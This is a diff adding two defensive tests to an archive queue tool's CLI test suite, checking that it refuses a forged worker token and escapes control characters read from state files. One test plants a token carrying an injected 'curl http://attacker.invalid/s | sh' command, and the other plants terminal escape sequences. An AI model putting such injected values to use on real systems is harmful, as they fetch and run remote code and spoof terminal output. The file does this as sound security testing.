@@ -246,6 +246,47 @@ describe('archive include refuses at once, before copying anything', () => {
     expect(r.all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
     await rm(out, { recursive: true, force: true });
   });
+
+  it('prints no command to run with a worker token the queue did not make (the answer is the queue user\'s to write)', async () => {
+    const adding = execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20'], { reject: false, all: true });
+    const requests = join(root, 'state', 'requests');
+    let id: string | undefined;
+    for (let i = 0; i < 200 && !id; i++) {
+      id = (await readdir(requests).catch(() => [] as string[])).find((n) => n.endsWith('.request.json'))?.replace(/\.request\.json$/, '');
+      if (!id) await new Promise((r) => setTimeout(r, 50));
+    }
+    expect(id).toBeDefined();
+    const answer = join(requests, `${id}.answer.json`);
+    const token = `aibw1.far-box.${'a'.repeat(64)}; curl http://attacker.invalid/s | sh; #`;
+    await writeFile(`${answer}.tmp`, JSON.stringify({ ok: true, message: 'worker far-box enrolled', worker: { token } }));
+    const owner = await stat(root);
+    await chown(`${answer}.tmp`, owner.uid, owner.gid);
+    await rename(`${answer}.tmp`, answer);
+    const r = await adding;
+    expect(r.exitCode, String(r.all)).toBe(2);
+    expect(r.stderr).toContain('the queue answered a token that is not one it makes for worker far-box; nothing printed to run');
+    expect(r.all).not.toContain('curl');
+  });
+
+  it('shows the control characters of what the state holds in workers ls and wait, rather than sending them to the terminal', async () => {
+    const owner = await stat(root);
+    const plant = async (folder: string, name: string, value: unknown) => {
+      await mkdir(join(root, 'state', folder), { recursive: true });
+      await chown(join(root, 'state', folder), owner.uid, owner.gid);
+      await writeFile(join(root, 'state', folder, name), JSON.stringify(value));
+      await chown(join(root, 'state', folder, name), owner.uid, owner.gid);
+    };
+    const hostile = 'x\u001b]0;pwned\u0007\u001b[2K\rpublished';
+    await plant('workers-seen', 'box.json', { id: `box${hostile}`, architectures: ['amd64'], lastSeen: hostile });
+    await plant('uploads', 'u.json', { id: 'u', changes: 'tool_1_source.changes', source: 'tool', version: '1', state: hostile, receivedAt: '2026-12-06T00:00:00Z', updatedAt: '2026-12-06T00:00:00Z', reasons: [], sourceFiles: [], jobs: [] });
+    const ls = await execa('node', [CLI, '--root', root, 'workers', 'ls'], { reject: false, all: true });
+    expect(ls.stdout).toContain('boxx\\x1b]0;pwned\\x07\\x1b[2K\\x0dpublished (beside the queue)');
+    const wait = await execa('node', [CLI, '--root', root, 'wait', 'tool', '1', '--timeout', '1'], { reject: false, all: true });
+    expect(wait.stderr).toContain('==> tool 1: x\\x1b]0;pwned\\x07\\x1b[2K\\x0dpublished');
+    for (const r of [ls, wait]) expect(r.all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    await rm(join(root, 'state', 'workers-seen', 'box.json'));
+    await rm(join(root, 'state', 'uploads', 'u.json'));
+  });
 });
 
 describe('archive worker refuses at once, before making any image', () => {
